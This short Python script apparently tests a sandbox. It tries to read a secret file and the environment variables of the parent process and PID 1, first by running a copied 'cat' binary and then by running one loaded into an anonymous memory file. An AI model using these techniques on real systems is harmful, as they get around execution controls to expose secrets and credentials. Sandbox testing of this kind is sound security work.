import os
import shutil
import subprocess

from attack import attempt, parent

secrets = ["/mnt/secret/file", f"/proc/{parent}/environ", "/proc/1/environ"]


def own():
    shutil.copy("/usr/bin/cat", "own")
    os.chmod("own", 0o700)
    print(subprocess.run(["./own", *secrets], capture_output=True, text=True))


def nameless():
    file = os.memfd_create("own", 0)
    with open("/usr/bin/cat", "rb") as program:
        os.write(file, program.read())
    print(subprocess.run([f"/proc/self/fd/{file}", *secrets], capture_output=True, text=True, pass_fds=[file]))


attempt("a file", own)
attempt("no file", nameless)
